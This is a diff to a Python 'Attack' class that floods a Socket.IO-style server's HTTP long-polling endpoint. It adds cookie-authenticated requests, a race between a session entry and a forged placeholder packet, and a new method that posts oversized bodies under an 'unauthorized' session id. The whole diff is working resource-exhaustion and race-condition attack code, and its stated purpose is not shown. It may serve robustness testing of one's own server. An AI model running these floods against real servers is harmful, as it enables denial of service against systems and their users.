@@ -148,7 +148,8 @@ class Attack:
             "binary events with endless attachments": self._attachments,
             "endless fragments": self._fragments,
             "text that is no packet": self._no_packets,
-            "polled attachments": self._polled,
+            "polled packets": self._polled,
+            "polled packets of nobody": self._polled_by_nobody,
         }
 
     async def _send_packets(
@@ -183,27 +184,40 @@ class Attack:
         return await self._frames(self._cookie, (encode(next(kinds)) for _ in range(20)))
 
     async def _polled(self) -> int:
+        """An account's polling connection: a promise, then bodies of what is no packet's data."""
         sent = 0
         async with self._connected(PACKETS_FROM) as (reader, writer):
-            writer.write(self._http("GET", f"{PATH}polling"))
-            greeting = await _answer(reader)
-            found = _SID.search(greeting)
+            writer.write(self._http("GET", f"{PATH}polling", cookie=True))
+            found = _SID.search(await _answer(reader))
             if found is None:
                 self._done["polling sessions refused"] += 1
                 return 0
-            sid = found[1].decode()
+            path = f"{PATH}polling&sid={found[1].decode()}"
             # The entry and what is promised race each other.
             promise = b'4599999999-/_event,["event",{"_placeholder":true,"num":0}]'
-            path = f"{PATH}polling&sid={sid}"
             async with self._connected(PACKETS_FROM) as (_, other):
-                writer.write(self._http("POST", path, ENTER))
-                other.write(self._http("POST", path, promise))
+                writer.write(self._http("POST", path, ENTER, cookie=True))
+                other.write(self._http("POST", path, promise, cookie=True))
                 await _answer(reader)
-            body = b"b" + b"A" * (POSTED - 1)
-            for _ in range(8):
-                writer.write(self._http("POST", path, body))
+            for body in cycle((b"b" + b"A" * (POSTED - 1), b"42/x," + b"[" * (POSTED - 5))):
+                # A connection that was cut off answers the rest with an error, which is read too.
+                writer.write(self._http("POST", path, body, cookie=True))
                 await asyncio.wait_for(writer.drain(), WAIT_SECONDS)
                 sent += len(body)
+                await _answer(reader)
+                if sent >= POSTED * 8:
+                    break
+        return sent
+
+    async def _polled_by_nobody(self) -> int:
+        """Bodies under the id that everybody without a session is given."""
+        sent = 0
+        async with self._connected(PACKETS_FROM) as (reader, writer):
+            path = f"{PATH}polling&sid=unauthorized"
+            for _ in range(8):
+                writer.write(self._http("POST", path, b"b" + b"A" * (POSTED - 1)))
+                await asyncio.wait_for(writer.drain(), WAIT_SECONDS)
+                sent += POSTED
                 await _answer(reader)
         return sent
 
@@ -246,8 +260,18 @@ class Attack:
                 raise ConnectionError("the server refused the socket")
             yield reader, writer
 
-    def _http(self, method: str, path: str, body: bytes = b"", origin: bool = False) -> bytes:
+    def _http(
+        self,
+        method: str,
+        path: str,
+        body: bytes = b"",
+        *,
+        origin: bool = False,
+        cookie: bool = False,
+    ) -> bytes:
         lines = [f"{method} {path} HTTP/1.1", f"Host: {self._host}"]
+        if cookie:
+            lines.append(f"Cookie: {self._cookie['Cookie']}")
         if origin:
             lines += [
                 f"Origin: http://{self._host}",
